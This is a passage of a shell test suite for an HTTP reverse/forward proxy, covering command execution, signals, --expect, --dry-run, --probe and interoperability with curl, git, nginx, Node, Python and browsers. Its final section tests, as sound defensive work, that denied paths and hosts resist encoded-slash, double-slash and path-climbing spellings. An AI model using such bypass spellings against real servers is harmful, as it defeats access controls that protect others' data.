	-q --log-format json|-q
	--log-format json --log-format combined|--log-format
	-v --show ''|--show
	-v --show status:x|status:x
	-v --show-secrets=yes|--show-secrets
	--request-id ''|--request-id
	--request-id 'Na me'|Na me
	--request-id Host|Host
	--request-id Content-Length|Content-Length
	-l unix:|unix:
	-l unix:x -l unix:x|unix:x
	-l fd:x|fd:x
	-l fd:|fd:
	-l fd:99999999999|fd:99999999999
	-r unix:|unix:
	-r unix:/x,nonsense=1|nonsense
	--max connections=x|connections
	--max per-client|per-client
	--max connections=1,connections=2|connections
	-r 200 -d '/a%zz'|two hex digits
	-r 200 --show-secrets|--show-secrets
	--report-only|--report-only
	--report-only -r 200|--report-only
	--report-only -l :0 -a from:private|--report-only
	--cors=yes|--cors
	END
	[ -z "${bad-}" ] || exit 1
}

test_a_command_runs_with_the_url_and_its_status_is_kept() {
	runs -q -r /=200:hello -- sh -c 'curl -q -s "$PROXY_URL/"; echo " $1"; exit 7' sh 'two  words'
	is "$status $out" '7 hello two  words'
	is "$err" ''
	runs -q -l 0 -l 0 -r 200:hello -- sh -c 'echo "$PROXY_URL"'
	like "$out" '^http://127\.0\.0\.1:[1-9][0-9]*$' 'stdout, which is the command'\''s alone,'
	is "$status" 0
	runs -q -r /=200 -- printf '%s\n' -q @file --log=x --
	is "$out" '-q
@file
--log=x
--'
}

test_the_status_of_a_command_is_that_of_the_shell() {
	runs -q -- sh -c 'kill -KILL $$'
	is "$status" 137
	runs -q -- sh -c 'kill -TERM $$'
	is "$status" 143
	runs -q -- ./nothing.here
	is "$status" 127
	like "$err" '^proxy: .*\./nothing\.here: No such file'
	runs -q -- nothing-of-this-name
	is "$status" 127
	like "$err" '^proxy: .*nothing-of-this-name'
	echo 'exit 0' >script
	runs -q -- ./script
	is "$status" 126
	like "$err" '^proxy: .*\./script: Permission denied'
	taken=$("$peer" port)
	start_as -q -l "$taken" -r /=200
	runs -q -l "$taken" -r 200 -- touch ran
	is "$status" 1
	[ ! -e ran ] || fail 'the command runs though nothing listens'
}

test_a_command_in_forward_mode_finds_the_proxy_in_its_environment() {
	cat >tell <<-'END'
	for name in http_proxy https_proxy all_proxy HTTP_PROXY HTTPS_PROXY ALL_PROXY; do
		eval "[ \"\${$name-}\" = \"$PROXY_URL\" ] || echo \"$name is '\${$name-unset}', not '$PROXY_URL'\""
	done
	echo "no_proxy ${no_proxy-unset} ${NO_PROXY-unset} node ${NODE_USE_ENV_PROXY-unset} other $OTHER"
	END
	export http_proxy=http://inherited no_proxy=example.com NO_PROXY=example.com OTHER=kept
	runs -q -- sh ./tell
	is "$out" 'no_proxy unset unset node 1 other kept'
	runs -q -f -r h.example=200 -- sh ./tell
	is "$out" 'no_proxy unset unset node 1 other kept'
	runs -q -r /=200 -- sh -c 'echo "${http_proxy-unset} ${https_proxy-unset} ${no_proxy-unset}"'
	is "$out" 'http://inherited unset example.com' 'the environment in reverse mode'
	unset http_proxy no_proxy NO_PROXY OTHER
	start -r /=200:through
	runs -o log -- curl -q -s "http://127.0.0.1:$port/"
	is "$out" through
	has "$(cat log)" "\"GET http://127.0.0.1:$port/ HTTP/1.1\" 200"
}

test_a_command_has_the_standard_files_and_no_other() {
	is "$(echo input | "$peer" alarm 10 "$PROXY" -q -- cat)" input
	runs -q -- sh -c 'echo said >&2; cat <&0'
	is "$err" said
	[ -d /proc/self/fd ] || return 0
	probe='ls /proc/$$/fd; ulimit -n; exec grep -E "Sig(Blk|Ign)" /proc/self/status'
	"$peer" alarm 10 sh -c "$probe" >expected </dev/null 2>&1
	runs -q -r http://nothing.invalid -u bob:x -- sh -c "$probe"
	is "$out" "$(cat expected)" 'what a command inherits'
}

test_a_command_gets_the_signals_and_the_proxy_serves_until_it_has_ended() {
	for signal in TERM INT; do
		rm -f ready got
		cat >orders <<-END
		trap 'curl -q -s "\$PROXY_URL/" >got; exit 9' $signal
		touch ready
		while :; do "$peer" nap 50; done
		END
		"$peer" bound 10 sh -c 'echo $$ >pid; exec "$@"' sh "$PROXY" -q -r /=200:still -- sh ./orders >bound.out 2>bound.err &
		bound=$!  # it undoes what the shell does to a job in the background: that INT is ignored
		wait_for test -f ready || fail "the command does not run: $(cat bound.err)"
		kill -$signal "$(cat pid)"
		wait $bound
		is $? 9 "exit status after $signal"
		is "$(cat got)" still
	done
}

test_a_command_keeps_the_terminal() {
	need script
	script -qec true typed >typed.out 2>&1 </dev/null || skip 'script works otherwise here'
	cat >orders <<-'END'
	test -t 0 && test -t 1 && test -t 2 && stty -echo && echo it is a terminal
	trap 'curl -q -s "$PROXY_URL/"; exit 9' INT
	touch ready
	while :; do "$peer" nap 50; done
	END
	{ wait_for test -f ready; printf '\003'; wait_for test -f ended; } |
		script -qec "trap : INT; '$PROXY' -q -r /=200:still-served -- sh ./orders; echo status \$?; touch ended" typed.2 >said 2>&1
	tr -d '\r' <said >lines
	grep -qx 'it is a terminal' lines || fail "the command has no terminal: $(cat lines)"
	grep -q still-served lines || fail "nothing is served after Ctrl-C: $(cat lines)"
	grep -q 'status 9$' lines || fail "the status after Ctrl-C: $(cat lines)"
}

test_n_idle_ends_when_nothing_has_happened_for_that_long() {
	began=$(now)
	start -n 50,idle=1500ms -r /=200:x
	for i in 1 2 3 4 5; do
		"$peer" nap 500
		answers 200 "$url"
	done
	exits 0
	[ $(($(now) - began)) -ge 3 ] || fail 'it ended though requests came'
	for form in idle=300ms ,idle=300ms; do
		start -n $form -r /=200:x
		exits 0
	done
	start -n 2,idle=10m -r /=200:x
	answers 200 "$url"
	answers 200 "$url"
	exits 0
	origin head nap:1500 'send:HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n'
	start -n idle=500ms -r ":$origin"
	answers 200 "$url"
	exits 0
}

test_expect_is_met_or_the_status_is_4_and_it_says_which() {
	may_say '^proxy: --expect [^ ]*,POST,/login: [0-9] matched$'
	while IFS='|' read -r count requests want; do
		start --expect "$count,POST,/login" -r /=200
		code "$url/login" >codes
		code -d x "$url/other" >codes
		i=0
		while [ $i -lt "$requests" ]; do
			is "$(code -d x "$url/login")" 200
			i=$((i + 1))
		done
		kill -TERM "$pid"
		exits "$want"
		said=''
		[ "$want" = 0 ] || said="proxy: --expect $count,POST,/login: $requests matched"
		is "$(cat "err.$n")" "$said" "what is said of $requests where $count are expected"
	done <<-'END'
	2|2|0
	2|1|4
	2|3|4
	2+|1|4
	2+|2|0
	2+|3|0
	1-2|0|4
	1-2|1|0
	1-2|2|0
	1-2|3|4
	0|0|0
	0|1|4
	END
}

test_expect_looks_at_the_answer_and_counts_refusals() {
	start --expect 1,/denied,status:403 --expect 2,status:200-299 --expect 0,status:500-599 \
		--expect 1,/none,status:404 --expect 2,not:status:200 -r /ok=200 -d /denied
	for path in ok ok denied none; do code "$url/$path" >codes; done
	stop
	may_say '^proxy: --expect'
	start -n 1 --expect 1,/never --expect 1,/ok --expect 3+,status:200 -r /ok=200
	answers 200 "$url/ok"
	exits 4
	is "$(cat "err.$n")" 'proxy: --expect 1,/never: 0 matched
proxy: --expect 3+,status:200: 1 matched'
	start -r /=200:x
	inner=$port
	start --expect 1,CONNECT,port:"$inner" --expect "1,GET,to:localhost"
	is "$(code -p -x "$url" "http://127.0.0.1:$inner/")" 200
	is "$(code -x "$url" "http://localhost:$inner/")" 200
	stop
}

test_expect_fails_a_command_that_did_well() {
	runs -q --expect 1,/asked -r /=200 -- sh -c 'curl -q -s "$PROXY_URL/asked"'
	is "$status $err" '0 '
	runs -q --expect 1,/asked -r /=200 -- true
	is "$status $err" '4 proxy: --expect 1,/asked: 0 matched'
	runs -q --expect 1,/asked -r /=200 -- sh -c 'exit 3'
	is "$status" 3
}

test_dry_run_knows_checks_mirrors_and_the_admin_listener() {
	try --dry-run -l 0 -A 9090 -r 127.0.0.1:1,max=2 --health /x --mirror 9 --rate 5 -b least
	is "$status" 0
	for line in 'admin http://127.0.0.1:9090' 'health /x' 'mirror 9' 'rate 5 at once'; do has "$out" "$line"; done
}

test_dry_run_prints_what_would_run_and_starts_nothing() {
	start -r /=200
	taken=$port
	try --dry-run -P pidfile -l "$taken" -l unix:front -l :81 -r /api=http://127.0.0.1:9/v2 -r 'h.example=200:{"a":1}' \
		-r 127.0.0.1:9,weight=5,backup -r /e=echo
	is "$status" 0
	is "$err" ''
	is "$(grep -c '^listen ' tried.out)$(grep -c '^route ' tried.out)" 34 'numbers of listeners and routes'
	is "$(grep '^listen ' tried.out | cut -d ' ' -f 1-2)" "listen http://127.0.0.1:$taken
listen unix:front
listen http://127.0.0.1:81"
	like "$out" '^route /api -> http://127\.0\.0\.1:9/v2.*/api' 'what a path replaces; it'
	like "$out" '^route h\.example/? -> 200'
	like "$out" '^route / -> (http://)?127\.0\.0\.1:9.*,weight=5' 'a route without a match'
	like "$out" '^route / -> .*,backup'
	like "$out" '^route /e -> echo'
	[ ! -e front ] || fail 'it listens'
	[ ! -e pidfile ] || fail 'it writes a pidfile'
	try --dry-run
	is "$status" 0
	has "$out" 'listen http://127.0.0.1:8080'
	try --dry-run -q -- touch ran
	[ ! -e ran ] || fail 'it runs the command'
}

test_dry_run_finds_what_would_go_wrong() {
	try --dry-run -o /nonexistent/log -r 200
	is "$status" 1
	like "$err" '/nonexistent/log: No such file'
	echo nonsense:x >rules
	refuses 'nonsense:x' --dry-run -d @rules -r 200
	try --dry-run -r file:/nonexistent
	is "$status" 1
	like "$err" '^proxy: .*/nonexistent: No such file'
	refuses 'nonsense' --dry-run --log-format nonsense
	try --dry-run -r http://nothing.invalid
	like "$out$err" 'nothing\.invalid.*([Nn]ot|[Nn]o )' 'what is said of a name that does not resolve'
}

test_probe_asks_once_and_its_status_is_the_health() {
	start_logged -r /ok=200:x -r /moved=302:/bad -r /bad=500 -r /none=404
	for path in ok 'moved?a=b'; do
		try --probe "$url/$path"
		is "$status $out$err" '0 ' "what --probe says of /$path"
	done
	for path in bad none; do
		try --probe "$url/$path"
		is "$status" 1
		is "$out" ''
		like "$err" "^proxy: --probe $url/$path: .*(500|404)"
	done
	stop
	is "$(cut -d ' ' -f 9 log | tr '\n' ' ')" '200 302 500 404 ' 'what was answered'
	origin head 'send:HTTP/1.1 103 Early\r\nLink: x\r\n\r\nHTTP/1.1 204 No\r\n\r\n' again
	http_proxy=http://127.0.0.1:1 try --probe "http://127.0.0.1:$origin/health?deep"
	is "$status $err" '0 '
	asked=$(tr -d '\r' <"got$m.1")
	has "$asked" 'GET /health?deep HTTP/1.1'
	has "$asked" "Host: 127.0.0.1:$origin"
	try --probe "http://127.0.0.1:$origin"
	is "$status" 0 'without a path, the status'
	has "$(cat "got$m.2")" 'GET / HTTP/1.1'
}

test_probe_fails_for_what_does_not_answer_within_3_s() {
	dead=1
	try --probe "http://127.0.0.1:$dead/"
	is "$status" 1
	like "$err" "^proxy: --probe http://127\.0\.0\.1:$dead/: .*[Rr]efused"
	try --probe http://nothing.invalid/
	is "$status" 1
	like "$err" '^proxy: --probe http://nothing\.invalid/: '
	origin head 'send:nonsense\r\n\r\n' -- head reset -- head
	for i in 1 2 3; do
		try --probe "http://127.0.0.1:$origin/"
		is "$status" 1 "the status for answer $i that is none"
		like "$err" "^proxy: --probe http://127\.0\.0\.1:$origin/: ."
	done
	origin head 'drip:400:HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n' rest
	began=$(now)
	runs --probe "http://127.0.0.1:$origin/"
	is "$status" 1 'the status for an answer that takes too long'
	like "$err" "^proxy: --probe http://127\.0\.0\.1:$origin/: ."
	took=$(($(now) - began))
	[ $took -ge 2 ] && [ $took -le 5 ] || fail "it took $took s"
}

# ---- real clients and servers ----

test_curl_moves_files_both_ways_unchanged() {
	big_file 64
	start -r ":$inner"
	is "$(get -m 300 "$url" | sha256sum)" "$want" 'download, reverse'
	start
	is "$(get -m 300 -x "$url" "http://127.0.0.1:$inner/" | sha256sum)" "$want" 'download, forward'
	is "$(get -m 300 -p -x "$url" "http://127.0.0.1:$inner/" | sha256sum)" "$want" 'download, tunnel'
	uploads
	upload=$origin
	start -r ":$upload"
	is "$(code -m 300 -H Expect: -T big "$url")" 200
	is "$(sha256sum <up)" "$want" 'upload, reverse'
	start
	is "$(code -m 300 -H Expect: -T big -x "$url" "http://127.0.0.1:$upload/")" 200
	is "$(sha256sum <up)" "$want" 'upload, forward'
}

python_origin() {  # a server of Python's; sets $origin: python_origin DIRECTORY
	need python3
	m=$((m + 1))
	: >"said.$m"
	python3 -u -c 'import http.server, functools, sys
handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=sys.argv[1])
server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
print(server.server_port, flush=True)
server.serve_forever()' "$1" >"said.$m" 2>/dev/null &
	helpers="$helpers $!"
	wait_for lines_in 1 "said.$m" || fail 'python does not start'
	origin=$(cat "said.$m")
}

test_a_chunked_upload_arrives_unchanged() {
	need python3 sha256sum
	head -c 5000000 /dev/urandom >big
	cat >server.py <<-'END'
	import http.server, hashlib
	class Handler(http.server.BaseHTTPRequestHandler):
	    protocol_version = "HTTP/1.1"
	    def do_PUT(self):
	        digest = hashlib.sha256()
	        while True:
	            size = int(self.rfile.readline().split(b";")[0], 16)
	            digest.update(self.rfile.read(size))
	            self.rfile.readline()
	            if size == 0:
	                break
	        answer = digest.hexdigest().encode()
	        self.send_response(200)
	        self.send_header("Content-Length", str(len(answer)))
	        self.end_headers()
	        self.wfile.write(answer)
	    def log_message(self, *a): pass
	server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
	print(server.server_port, flush=True)
	server.serve_forever()
	END
	: >server.out
	python3 server.py >server.out &
	helpers="$helpers $!"
	wait_for lines_in 1 server.out
	start -r ":$(cat server.out)"
	is "$(get -T - "$url/" <big)" "$(sha256sum <big | cut -d' ' -f1)"
}

test_wget_fetches_through_forward_and_reverse() {
	need wget
	start -r /=200:fetched
	inner=$port
	start
	is "$(http_proxy=$url wget -qO- "http://127.0.0.1:$inner/")" fetched
	start -r ":$inner"
	is "$(wget -qO- "$url/")" fetched
}

test_git_clones_and_pushes_over_http() {
	need git python3
	git --exec-path >path
	[ -x "$(cat path)/git-http-backend" ] || skip 'no git http-backend here'
	cat >server.py <<-'END'
	import http.server, os, subprocess, sys
	class Handler(http.server.BaseHTTPRequestHandler):
	    protocol_version = "HTTP/1.1"
	    def serve(self):
	        path, _, query = self.path.partition("?")
	        body = b""
	        if self.headers.get("Transfer-Encoding") == "chunked":
	            while True:
	                size = int(self.rfile.readline(), 16)
	                body += self.rfile.read(size)
	                self.rfile.readline()
	                if size == 0:
	                    break
	        else:
	            body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
	        env = dict(os.environ, GIT_PROJECT_ROOT=os.getcwd(), GIT_HTTP_EXPORT_ALL="1", PATH_INFO=path,
	                   QUERY_STRING=query, REQUEST_METHOD=self.command, REMOTE_USER="x", REMOTE_ADDR="127.0.0.1",
	                   CONTENT_TYPE=self.headers.get("Content-Type", ""), CONTENT_LENGTH=str(len(body)),
	                   HTTP_CONTENT_ENCODING=self.headers.get("Content-Encoding", ""))
	        out = subprocess.run(["git", "http-backend"], input=body, env=env, stdout=subprocess.PIPE).stdout
	        head, _, content = out.partition(b"\r\n\r\n")
	        fields = [line.split(": ", 1) for line in head.decode().split("\r\n")]
	        self.send_response(next((int(v[:3]) for k, v in fields if k == "Status"), 200))
	        for k, v in fields:
	            if k != "Status":
	                self.send_header(k, v)
	        self.send_header("Content-Length", str(len(content)))
	        self.end_headers()
	        self.wfile.write(content)
	    do_GET = do_POST = serve
	    def log_message(self, *a): pass
	server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
	print(server.server_port, flush=True)
	server.serve_forever()
	END
	HOME=$PWD GIT_CONFIG_NOSYSTEM=1
	export HOME GIT_CONFIG_NOSYSTEM
	git config --global user.name tester
	git config --global user.email tester@example
	git config --global http.postBuffer 65536
	git config --global safe.directory '*'
	git init -q --bare shelf.git
	git -C shelf.git config http.receivepack true
	: >server.out
	python3 server.py >server.out 2>server.err &
	helpers="$helpers $!"
	wait_for lines_in 1 server.out
	inner=$(cat server.out)
	start -r ":$inner"
	git clone -q "$url/shelf.git" work 2>git.err || fail "$(cat git.err)"
	head -c 3000000 /dev/urandom >work/big
	git -C work add big
	git -C work commit -qm one
	git -C work push -q origin HEAD:main 2>git.err || fail "$(cat git.err)"
	start
	git -c "http.proxy=$url" clone -q -b main "http://127.0.0.1:$inner/shelf.git" copy 2>git.err || fail "$(cat git.err)"
	cmp work/big copy/big || fail 'the clone differs'
}

test_python_s_clients_work() {
	need python3
	forward
	python3 - "$url" "$inner" <<-'END' || fail 'see above'
	import http.client, json, sys, urllib.request
	proxy, inner = sys.argv[1].split("//")[1], sys.argv[2]
	c = http.client.HTTPConnection(proxy)
	for i in range(3):
	    c.request("POST", f"http://127.0.0.1:{inner}/{i}", body=iter([b"a", b"b"]), encode_chunked=True,
	              headers={"Transfer-Encoding": "chunked"})
	    assert json.load(c.getresponse())["content"] == "ab"
	t = http.client.HTTPConnection(proxy)
	t.set_tunnel("127.0.0.1", int(inner))
	t.request("GET", "/tunnel")
	assert json.load(t.getresponse())["target"] == "/tunnel"
	opener = urllib.request.build_opener(urllib.request.ProxyHandler({"http": "http://" + proxy}))
	assert json.load(opener.open(f"http://127.0.0.1:{inner}/urllib"))["target"] == "/urllib"
	END
	python_origin "$PWD"
	echo content >page.txt
	start -r ":$origin"
	is "$(get "$url/page.txt")" content
	answers 404 "$url/missing"
}

test_node_s_clients_work() {
	need node
	forward
	cat >client.js <<-'END'
	const http = require('http'), [proxy, inner] = [new URL(process.argv[2]), process.argv[3]];
	const agent = new http.Agent({ keepAlive: true, maxSockets: 2 });
	const once = i => new Promise((done, bad) => {
	  const r = http.request({ host: proxy.hostname, port: proxy.port, agent, method: 'POST', path: `http://127.0.0.1:${inner}/${i}` },
	    a => { let s = ''; a.on('data', d => s += d).on('end', () => done(JSON.parse(s))); }).on('error', bad);
	  r.write('in '); r.end('pieces');
	});
	const tunnel = () => new Promise((done, bad) => http.request({ host: proxy.hostname, port: proxy.port, method: 'CONNECT', path: `127.0.0.1:${inner}` })
	  .on('connect', (a, socket) => http.get({ createConnection: () => socket, path: '/tunnel', headers: { Host: 'h', Connection: 'close' } },
	    b => { let s = ''; b.on('data', d => s += d).on('end', () => done(JSON.parse(s))); })).on('error', bad).end());
	(async () => {
	  const all = await Promise.all([...Array(20).keys()].map(once));
	  all.forEach((a, i) => { if (a.content !== 'in pieces' || a.target !== '/' + i) throw Error(JSON.stringify(a)); });
	  if ((await tunnel()).target !== '/tunnel') throw Error('tunnel');
	  if (typeof fetch === 'function') {
	    const a = await (await fetch(process.argv[4], { method: 'PUT', body: 'fetched' })).json();
	    if (a.content !== 'fetched') throw Error(JSON.stringify(a));
	  }
	  agent.destroy();
	})().catch(e => { console.log(e.stack); process.exit(1); });
	END
	forward_url=$url
	start -r ":$inner"
	node client.js "$forward_url" "$inner" "$url" || fail 'see above'
}

test_a_websocket_client_and_server_talk_through_it() {
	need node
	node -e 'require("ws")' 2>/dev/null || skip 'no ws for node here'
	cat >ws.js <<-'END'
	const WebSocket = require('ws'), big = 'x'.repeat(1 << 20);
	const server = new WebSocket.Server({ host: '127.0.0.1', port: 0 }, () => console.log(server.address().port));
	server.on('connection', s => s.on('message', (m, binary) => s.send(m, { binary })));
	END
	cat >client.js <<-'END'
	const WebSocket = require('ws'), big = 'x'.repeat(1 << 20), c = new WebSocket(process.argv[2]);
	let n = 0;
	c.on('open', () => { c.send('small'); c.send(big); c.ping(); });
	c.on('message', m => { if (String(m) !== (n++ ? big : 'small')) throw Error('differs'); if (n === 2) c.close(1000, 'bye'); });
	c.on('close', code => process.exit(code === 1000 && n === 2 ? 0 : 1));
	c.on('error', e => { console.log(e.message); process.exit(1); });
	END
	: >server.out
	node ws.js >server.out &
	helpers="$helpers $!"
	wait_for lines_in 1 server.out
	start -r ":$(cat server.out)"
	node client.js "ws://127.0.0.1:$port/" || fail 'the talk failed'
}

test_nginx_is_served_in_front_of() {
	command -v nginx >/dev/null || PATH=$PATH:/usr/sbin
	need nginx
	free=$("$peer" port)
	mkdir logs site
	head -c 200000 /dev/urandom >site/big
	echo small >site/small
	cat >nginx.conf <<-END
	daemon off; master_process off; pid $PWD/nginx.pid; error_log $PWD/error.log;
	events {}
	http {
	    access_log off; client_body_temp_path $PWD/b; proxy_temp_path $PWD/p; fastcgi_temp_path $PWD/f;
	    uwsgi_temp_path $PWD/u; scgi_temp_path $PWD/s;
	    server { listen 127.0.0.1:$free; root $PWD/site; location /go { return 302 /small; } gzip on; gzip_types *; gzip_min_length 1; }
	}
	END
	[ "$(id -u)" != 0 ] || { sed -i '1iuser root;' nginx.conf; }
	nginx -p "$PWD" -c "$PWD/nginx.conf" 2>nginx.err &
	helpers="$helpers $!"
	up() { "$peer" talk "$free" 2>/dev/null; }
	wait_for up || fail "nginx does not start: $(cat nginx.err)"
	start -r ":$free"
	get "$url/big" | cmp - site/big || fail 'it differs'
	get --compressed "$url/big" | cmp - site/big || fail 'it differs when compressed'
	is "$(get -L "$url/go")" small
	is "$(code -r 0-9 "$url/big")" 206
	answers 404 "$url/missing"
	start
	get -x "$url" "http://127.0.0.1:$free/big" | cmp - site/big || fail 'it differs in forward mode'
}

test_chromium_loads_a_page_with_images() {
	for browser in chromium chromium-browser google-chrome none; do
		command -v $browser >/dev/null && break
	done
	[ $browser != none ] || skip 'no chromium here'
	cat >page.html <<-'END'
	<!doctype html><title>page</title><img src=/a.svg><img src=/b.svg><img src=/c.svg><img src=/d.svg>
	<script>onload = () => fetch('/echo', { method: 'POST', body: 'posted' }).then(r => r.json()).then(j =>
	  document.body.append([...document.images].map(i => i.naturalWidth).join('+') + '=' + j.content));</script>
	END
	echo '<svg xmlns="http://www.w3.org/2000/svg" width="7" height="7"><rect width="7" height="7"/></svg>' >image.svg
	start -r /page=file:page.html -r /a.svg=file:image.svg -r /b.svg=file:image.svg -r /c.svg=file:image.svg -r /d.svg=file:image.svg -r /echo=echo -r /=404
	inner=$port
	browse() {
		HOME=$PWD "$browser" --headless --no-sandbox --disable-gpu --disable-dev-shm-usage --no-first-run \
			--user-data-dir="$PWD/profile" --virtual-time-budget=8000 --dump-dom "$@" 2>browser.err
	}
	start -r ":$inner"
	has "$(browse "$url/page")" '7+7+7+7=posted' 'the page through the reverse mode'
	start -d not:to:localhost
	has "$(browse --proxy-server="$url" --proxy-bypass-list='<-loopback>' "http://localhost:$inner/page")" '7+7+7+7=posted' 'the page through the forward mode'
}

test_apt_updates_and_downloads_through_it() {
	need apt-get
	list=$(grep -lE '^(deb |URIs:).*http://.*/debian/?( |$)' /etc/apt/sources.list /etc/apt/sources.list.d/* 2>/dev/null | head -n 1)
	[ -n "$list" ] || skip 'no http source of packages here'
	source=$(grep -v '^#' "$list" | grep -Eo 'http://[^ ]*/debian' | head -n 1)
	. /etc/os-release
	"$peer" alarm 12 curl -q -sf -m 5 -o /dev/null "$source/dists/$VERSION_CODENAME/InRelease" || skip 'the network does not answer'
	mkdir -p apt/lists/partial apt/cache/archives/partial apt/parts
	cp "$list" apt/parts
	start_logged --log-format combined
	apt() {
		apt-get -qq -o "Acquire::http::Proxy=$url" -o "Dir::State::Lists=$PWD/apt/lists" -o "Dir::Cache=$PWD/apt/cache" \
			-o Dir::Etc::SourceList=/dev/null -o "Dir::Etc::SourceParts=$PWD/apt/parts" -o Acquire::Languages=none \
			-o Acquire::Retries=0 -o Acquire::http::Timeout=5 -o APT::Sandbox::User=root "$@"
	}
	apt update >apt.log 2>&1 || fail "$(cat apt.log log)"
	apt download hello >apt.log 2>&1 || fail "$(cat apt.log log)"
	is "$(find . -name 'hello_*.deb' | wc -l | tr -d ' ')" 1 'number of packages that came'
	grep -q ' 200 ' log || fail "nothing passed: $(cat log)"
}

# ---- what is judged is what is sent ----

# The servers each read targets and framing as they do: under admin/secret, and as the host secret.test, they have
# "the secret"; else they tell what they read. What they are asked stands in the file $seen. served_by NAME; sets $origin
served_by() {
	need python3
	free=$("$peer" port) seen=$PWD/seen
	: >seen
	"$1_serves"
}
nginx_serves() {
	mkdir -p site/admin
	printf 'the secret' >site/admin/secret
	nginx_up '' <<-END
	http {
	    log_format seen '\$request'; access_log $seen seen; client_body_temp_path $PWD/b; proxy_temp_path $PWD/p;
	    fastcgi_temp_path $PWD/f; uwsgi_temp_path $PWD/u; scgi_temp_path $PWD/s; default_type text/plain;
	    add_header Cache-Control max-age=600 always; add_header X-Server yes always;
	    server {
	        listen 127.0.0.1:$free default_server; root $PWD/site; error_page 403 404 405 = @none;
	        location @none { return 404 '404 \$host \$uri?\$args'; }
	        location ~ ^/(first|second|end)/ { return 200 '200 \$uri'; }
	    }
	    server { listen 127.0.0.1:$free; server_name secret.test; return 200 'the secret'; }
	}
	END
	origin=$free
}
apache_serves() {
	command -v apache2 >/dev/null || PATH=$PATH:/usr/sbin
	need apache2
	modules=/usr/lib/apache2/modules
	[ -f $modules/mod_mpm_event.so ] || skip 'no modules of apache2 here'
	cat >apache.conf <<-END
	ServerRoot $PWD
	PidFile $PWD/apache.pid
	Listen 127.0.0.1:$free
	User #65534
	Group #65534
	ServerName other.test
	Mutex posixsem
	LoadModule mpm_event_module $modules/mod_mpm_event.so
	LoadModule authz_core_module $modules/mod_authz_core.so
	LoadModule headers_module $modules/mod_headers.so
	ErrorLog $PWD/apache.err
	CustomLog $seen "%r"
	Header always set Cache-Control max-age=600
	Header always set X-Server yes
	ErrorDocument 404 "404 %{SERVER_NAME} %{REQUEST_URI}?%{QUERY_STRING}"
	<Location /admin/secret>
	ErrorDocument 404 "the secret"
	</Location>
	<VirtualHost *>
	</VirtualHost>
	<VirtualHost *>
	ServerName secret.test
	ErrorDocument 404 "the secret"
	</VirtualHost>
	END
	apache2 -X -f "$PWD/apache.conf" 2>apache.said &
	helpers="$helpers $!"
	up() { "$peer" talk "$free" 2>/dev/null; }
	wait_for up || fail "apache2 does not start: $(cat apache.said apache.err)"
	origin=$free
}
node_serves() {
	need node
	cat >server.js <<-'END'
	const http = require('http'), fs = require('fs'), path = require('path').posix;
	http.createServer((q, a) => {
	  let told = '400';
	  fs.appendFileSync('seen', q.method + ' ' + q.url + '\n');
	  try {
	    const url = new URL(q.url, 'http://h'), read = path.normalize(decodeURIComponent(url.pathname));
	    const [name, port] = (q.headers['x-forwarded-host'] || q.headers.host || '').toLowerCase().split(':');
	    const host = name.replace(/\.$/, '');
	    told = read === '/admin/secret' || host === 'secret.test' ? 'the secret' : `404 ${host} ${+port || 80} ${read}${url.search}`;
	  } catch (e) { }
	  a.writeHead(200, { 'Cache-Control': 'max-age=600', 'X-Server': 'yes', 'Content-Length': Buffer.byteLength(told) });
	  a.end(told);
	}).listen(0, '127.0.0.1', function () { console.log(this.address().port); });
	END
	script_serves node server.js
}
haproxy_serves() {
	haproxy_up <<-END
	listen l
	    bind 127.0.0.1:$free
	    option dontlognull
	    log stdout format raw local0
	    log-format "%{+Q}r"
	    http-request return status 200 content-type text/plain hdr X-Server yes lf-string "200 %[path]"
	END
	origin=$free seen=$PWD/haproxy.err
}
python_serves() {
	mkdir -p site/admin
	printf 'the secret' >site/admin/secret
	cd site || exit 1
	script_serves python3 "$raw/spelled.py" python
	cd .. || exit 1
}
wsgi_serves() { script_serves python3 "$raw/spelled.py" wsgi; }
script_serves() {  # a command that says its port
	: >port
	"$@" >port 2>complaint &
	helpers="$helpers $!"
	wait_for lines_in 1 port || fail "$1 does not start: $(cat complaint)"
	origin=$(cat port)
}
spelled() { python3 "$raw/spelled.py" "$@" || fail 'in another spelling it is another request'; }
most() { echo "$1${slow:+0}"; }

# What the manual tells apart, %2F from / and // from /, is one to some servers; before those it takes these rules too.
all_slashes="-d '/*%2F*' -d '//*' -d '/*//*'"
denied_path() {
	served_by "$1"
	start -r ":$origin" -d /admin
	denied=$port
	eval "start -r :$origin -d /admin $all_slashes"
	all=$port
	start -r ":$origin" -r /admin=200:guarded
	routed=$port
	eval "start -r :$origin -r /admin=200:guarded $all_slashes"
	apart=$port
	spelled path "$(most "${2-2000}")" "$origin" "-d /admin?=$denied" "-d /admin $all_slashes=$all" \
		"a route?=$routed" "a route and $all_slashes=$apart"
}
test_a_denied_path_is_not_had_from_nginx_in_any_spelling() { denied_path nginx; }
test_a_denied_path_is_not_had_from_apache_in_any_spelling() { denied_path apache; }
test_a_denied_path_is_not_had_from_node_in_any_spelling() { denied_path node; }
test_a_denied_path_is_not_had_from_python_in_any_spelling() { denied_path python 300; }
test_a_denied_path_is_not_had_from_a_wsgi_application_in_any_spelling() { denied_path wsgi 300; }

no_climb() {
	served_by "$1"
	start -r ":$origin" -a /pub
	allowed=$port
	start -r "/pub=http://127.0.0.1:$origin/open/"
	given=$port
	spelled climb "$(most "${2-2000}")" "$origin" "-a /pub=$allowed" "-r /pub=http://host/open/=$given"
}
test_no_path_climbs_out_of_what_is_allowed_at_nginx() { no_climb nginx; }
test_no_path_climbs_out_of_what_is_allowed_at_apache() { no_climb apache; }
test_no_path_climbs_out_of_what_is_allowed_at_node() { no_climb node; }
test_no_path_climbs_out_of_what_is_allowed_at_python() { no_climb python 300; }

denied_host() {
	served_by "$1"
	start -r ":$origin" -d secret.test
	denied=$port
	start -r ":$origin" -a open.test
	allowed=$port
	start -r ":$origin" -r secret.test=200:guarded
	routed=$port
	start -r "open.test=:$origin" -r 200:guarded
	named=$port
	spelled host 0 "$origin" "-d secret.test=$denied" "-a open.test=$allowed" "a route of its own=$routed" "a route for another=$named"
}
test_a_denied_host_is_not_had_from_nginx_in_any_spelling() { denied_host nginx; }
test_a_denied_host_is_not_had_from_apache_in_any_spelling() { denied_host apache; }
